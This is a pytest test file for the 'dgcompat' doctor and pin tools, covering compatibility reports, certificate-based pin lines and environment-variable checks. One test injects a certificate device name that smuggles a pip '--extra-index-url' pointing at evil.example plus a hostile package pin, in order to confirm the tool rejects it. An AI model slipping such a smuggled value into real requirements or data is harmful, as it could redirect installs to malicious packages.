"""`dgcompat doctor` and `dgcompat pin`."""

from __future__ import annotations

import json
import os
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from packaging.version import Version

import dgcompat
from dgcompat_conformance import doctor, pins
from testsupport import fakes
from testsupport.dists import torch_metadata


def _install(fake_site: Callable[..., Path], monkeypatch: pytest.MonkeyPatch, body: str, version: str,
             torch: str | None = None) -> None:
    site = fake_site("sgl-deep-gemm", version, body)
    if torch is not None:  # the torch detection sees, whatever torch is installed
        torch_metadata(site, torch)
        dgcompat.reset()
    # The ABI check runs in a child process: it finds the fake release through PYTHONPATH.
    monkeypatch.setenv("PYTHONPATH", str(site) + os.pathsep + os.environ.get("PYTHONPATH", ""))
    monkeypatch.setenv("DGCOMPAT_ARCH", "sm90")


@pytest.mark.slow
def test_doctor_on_a_loadable_release(fake_site: Callable[..., Path], monkeypatch: pytest.MonkeyPatch,
                                      capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("DGCOMPAT_ALLOW_TORCH_MISMATCH", "1")
    _install(fake_site, monkeypatch, fakes.SGL_025, "0.2.5")
    data = doctor.collect()
    # A fake's Python layer is not the published wheel's: its label says so.
    assert data["release"]["label"].startswith("sgl-deep-gemm 0.2.5 [same version, different surface ")
    assert data["abi"]["import"] is True and data["abi"]["verdict"] in ("ok", "loads (kernels not checked)")
    # The torch line pins the installed torch where it meets the release's requirement, else the requirement.
    installed = data["torch"].get("version") or ""
    torch_line = f"torch=={installed.split('+')[0]}" if installed.startswith("2.14.") else "torch==2.14.*"
    assert data["pin"][0] == "sgl-deep-gemm==0.2.5" and data["pin"][1] == torch_line, data["pin"]
    assert doctor.main(["--json"]) in (0, 1)
    assert json.loads(capsys.readouterr().out)["capabilities"]["mqa_logits"] == "fp8_fp4_mqa_logits"


def test_doctor_on_a_broken_native_library(fake_site: Callable[..., Path], monkeypatch: pytest.MonkeyPatch,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("DGCOMPAT_ALLOW_TORCH_MISMATCH", "1")
    _install(fake_site, monkeypatch, "raise OSError('_C.so: undefined symbol: _ZN3c104cuda')\n", "0.2.3.post2")
    assert doctor.main([]) == 1
    out = capsys.readouterr().out
    assert "does not load" in out and "undefined symbol" in out and "cannot work" in out


def test_pin_lines_name_the_certificates() -> None:
    lines = pins.pin_lines("sgl-deep-gemm", Version("0.1.4"))
    assert lines[:3] == ["sgl-deep-gemm==0.1.4", "torch==2.11.*", "sglang-kernel>=0.4.3"]
    assert lines[3].startswith("# certificates:") and "gpu: certified" in lines[3]
    assert "not certified" in pins.pin_lines("sgl-deep-gemm", Version("9.9.9"))[-1]


def test_doctor_reports_a_torch_mismatch_without_importing(fake_site: Callable[..., Path],
                                                           monkeypatch: pytest.MonkeyPatch,
                                                           capsys: pytest.CaptureFixture[str]) -> None:
    _install(fake_site, monkeypatch, "raise RuntimeError('must not be imported')\n", "0.2.5", torch="2.12.0")
    data = doctor.collect()
    assert data["release"]["torch_ok"] is False, data["release"]
    assert data["abi"]["verdict"].startswith("refused") and not data["works"]
    assert any("built for torch==2.14.*" in p for p in data["problems"])


# --------------------------------------------------------------------------- untrusted certificates


def _committed(name: str) -> dict[str, Any]:
    from dgcompat_conformance.certificate import COMMITTED

    doc: dict[str, Any] = json.loads((COMMITTED / name).read_text())
    return doc


def test_pin_never_copies_an_injected_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    doc = _committed("gpu-0.1.4.json")
    device = dict(doc["device"])
    device["name"] = "NVIDIA H200\n--extra-index-url https://evil.example/simple\nevil-pkg==6.6.6"
    (tmp_path / "gpu-0.1.4.json").write_text(json.dumps(dict(doc, device=device)))
    assert pins.main(["--release", "0.1.4", "--certificates", str(tmp_path)]) == 2
    out, err = capsys.readouterr()
    assert "evil" not in out and "--extra-index-url" not in out
    assert "gpu-0.1.4.json" in err and "device.name" in err and "Traceback" not in err
    # The same certificate with an honest name pins as before.
    (tmp_path / "gpu-0.1.4.json").write_text(json.dumps(doc))
    assert pins.main(["--release", "0.1.4", "--certificates", str(tmp_path)]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[:3] == ["sgl-deep-gemm==0.1.4", "torch==2.11.*", "sglang-kernel>=0.4.3"] and len(lines) == 4
    # The line also names the build the certificates certify (its recorded surface and fingerprint).
    assert lines[3] == "# certificates: gpu: certified on NVIDIA H200 (build: surface 6df5447106b3, fingerprint " \
                       "0dceb8cba3e9)"


@pytest.mark.parametrize(("body", "why"), [
    ("[1, 2, 3]", "JSON list"),
    (None, "summary is not a count per outcome"),
    ("{", "unreadable certificate"),
])
def test_pin_names_an_unsound_certificate(body: str | None, why: str, tmp_path: Path,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    if body is None:
        body = json.dumps(dict(_committed("cpu-0.1.4.json"), summary="137 passed"))
    (tmp_path / "cpu-0.1.4.json").write_text(body)
    for argv in (["--release", "0.1.4"], ["--docs"]):
        assert pins.main([*argv, "--certificates", str(tmp_path)]) == 2
        out, err = capsys.readouterr()
        assert why in err and "cpu-0.1.4.json" in err and "Traceback" not in err, err
        assert "sgl-deep-gemm==0.1.4" not in out


def test_pin_rejects_bad_releases(capsys: pytest.CaptureFixture[str]) -> None:
    assert pins.main(["--release", "banana"]) == 2
    err = capsys.readouterr().err
    assert "argument --release" in err and "got 'banana' (not a version)" in err and "Traceback" not in err
    assert pins.main(["--release", "0.1.4", "--dist", "torch"]) == 2
    assert "argument --dist: expected one of" in (err := capsys.readouterr().err) and "got 'torch'" in err
    assert pins.main(["--release", "0.3.21", "--dist", "sgl_kernel"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0] == "sgl-kernel==0.3.21" and out[-1].startswith("# certificates: cpu-tier: PASS")


# --------------------------------------------------------------------------- environment variables


def test_doctor_lists_the_environment_and_flags_bad_values(monkeypatch: pytest.MonkeyPatch,
                                                           capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("DGCOMPAT_BACKEND", "refrence")
    monkeypatch.setenv("DGCOMPAT_ARCH", "sm999")
    monkeypatch.setenv("DGCOMPAT_DEBUG", "maybe")
    monkeypatch.setenv("DGCOMPAT_BAKCEND", "reference")
    monkeypatch.setenv("DGCOMPAT_TRUST_SCHEDULES", "1")
    report = {v.name: v for v in doctor.environment_report()}
    assert not report["DGCOMPAT_BACKEND"].valid and "reference" in report["DGCOMPAT_BACKEND"].accepted
    assert not report["DGCOMPAT_ARCH"].valid and not report["DGCOMPAT_DEBUG"].valid
    assert not report["DGCOMPAT_BAKCEND"].valid and "misspelt" in report["DGCOMPAT_BAKCEND"].meaning
    retired = report["DGCOMPAT_TRUST_SCHEDULES"]
    assert retired.valid and retired.value == "1" and retired.meaning.startswith("retired, no effect")
    data = doctor.collect(run_abi=False)
    assert any(p.startswith("DGCOMPAT_BACKEND='refrence'") for p in data["problems"])
    assert any(p.startswith("DGCOMPAT_ARCH='sm999'") for p in data["problems"])
    assert doctor.main(["--no-abi"]) in (0, 1)
    out = capsys.readouterr().out
    assert "environment" in out and "DGCOMPAT_BACKEND" in out and "INVALID" in out
    for good in ("reference", "deep_gemm", "auto", ""):
        monkeypatch.setenv("DGCOMPAT_BACKEND", good)
        assert {v.name: v for v in doctor.environment_report()}["DGCOMPAT_BACKEND"].valid, good
    for good in ("sm90", "sm100a", "90", "12.0"):
        monkeypatch.setenv("DGCOMPAT_ARCH", good)
        assert {v.name: v for v in doctor.environment_report()}["DGCOMPAT_ARCH"].valid, good


ROOT = Path(__file__).resolve().parent.parent
_NAME = re.compile(r"DGCOMPAT_[A-Z0-9_]*[A-Z0-9](?![A-Z0-9_])")


def _names_in(paths: list[Path]) -> dict[str, str]:
    """Every ``DGCOMPAT_*`` name written in ``paths`` (a prefix such as ``DGCOMPAT_WARMUP_`` is not a name) -> one
    file that writes it."""
    found: dict[str, str] = {}
    for path in paths:
        for name in _NAME.findall(path.read_text("utf-8")):
            found.setdefault(name, str(path.relative_to(ROOT)))
    return found


def _code_and_docs() -> list[Path]:
    code = [p for folder in ("dgcompat", "conformance/dgcompat_conformance", "bench")
            for p in sorted((ROOT / folder).rglob("*.py"))]
    return [*code, ROOT / "README.md", *sorted((ROOT / "docs").glob("*.md"))]


def _clean_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in [k for k in os.environ if k.startswith("DGCOMPAT_")]:
        monkeypatch.delenv(name)


def test_no_variable_the_code_reads_or_the_docs_name_is_called_misspelt(monkeypatch: pytest.MonkeyPatch) -> None:
    _clean_environment(monkeypatch)
    names = _names_in(_code_and_docs())
    assert "DGCOMPAT_RESULTS" in names and "DGCOMPAT_BACKEND" in names  # the scan sees what it should
    for name in names:
        monkeypatch.setenv(name, "1")
    report = doctor.environment_report()
    misspelt = {v.name: names[v.name] for v in report if "misspelt" in v.meaning}
    assert not misspelt, f"variables dgcompat reads or documents, called misspelt by doctor: {misspelt}"
    listed = [v.name for v in report]
    assert len(listed) == len(set(listed)), sorted(n for n in listed if listed.count(n) > 1)


def test_doctor_lists_each_variable_once_even_with_a_bad_value(monkeypatch: pytest.MonkeyPatch,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    _clean_environment(monkeypatch)
    monkeypatch.setenv("DGCOMPAT_INSTALL", "maybe")
    report = doctor.environment_report()
    listed = [v.name for v in report]
    assert len(listed) == len(set(listed)), listed
    assert [v.valid for v in report if v.name == "DGCOMPAT_INSTALL"] == [False]
    assert doctor.main(["--no-abi"]) == 1
    out = capsys.readouterr().out
    assert sum(line.split()[:1] == ["DGCOMPAT_INSTALL"] for line in out.splitlines()) == 1, out
    assert sum(line.startswith("  - DGCOMPAT_INSTALL=") for line in out.splitlines()) == 1, out


def test_documented_folders_keep_a_working_stack_working(fake_site: Callable[..., Path], tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    _clean_environment(monkeypatch)
    _install(fake_site, monkeypatch, fakes.SGL_025, "0.2.0", torch="2.13.0")
    assert doctor.collect(run_abi=False)["release"]["torch_ok"] is True
    assert doctor.main(["--no-abi"]) == 0, capsys.readouterr().out
    capsys.readouterr()
    for name, folder in (("DGCOMPAT_RESULTS", "results"), ("DGCOMPAT_CACHE", "cache"),
                         ("DGCOMPAT_JIT_CACHE_ROOT", "jit")):
        monkeypatch.setenv(name, str(tmp_path / folder))
    assert doctor.main(["--no-abi"]) == 0
    out = capsys.readouterr().out
    assert "misspelt" not in out and "INVALID" not in out and "can work" in out, out


def test_the_one_list_names_every_variable_and_who_reads_it() -> None:
    from dgcompat import env

    names = _names_in(_code_and_docs())
    internal = tuple(env.INTERNAL_PREFIXES)
    for name, where in names.items():
        if name in env.RETIRED or name.startswith(internal):
            continue
        assert name in env.VARIABLES, f"{name} (in {where}) is not in dgcompat.env.VARIABLES"
    assert {v.read_by for v in env.VARIABLES.values()} <= {"runtime", "start-up hook", "warmup", "tools"}
    assert env.VARIABLES["DGCOMPAT_RESULTS"].read_by == "tools"
    # doctor's table is the list, in its order, then nothing else while nothing else is set
    assert [v.name for v in doctor.environment_report()][:len(env.VARIABLES)] == list(env.VARIABLES)


def test_doctor_says_an_unidentified_install_cannot_work(clean_dgcompat: None, tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    # an sgl-deep-gemm 0.1.4 Python layer whose dist-info is gone: never planned as 0.2.5
    (tmp_path / "deep_gemm").mkdir()
    (tmp_path / "deep_gemm" / "__init__.py").write_text("raise RuntimeError('must not import')\n__version__ = '0.1.4'\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    from dgcompat import reset

    reset()
    data = doctor.collect()
    assert data["release"]["refusal"] and not data["works"] and data["abi"] is None
    assert doctor.main([]) == 1
    out = capsys.readouterr().out
    assert "refused" in out and "0.1.4" in out and "cannot work" in out
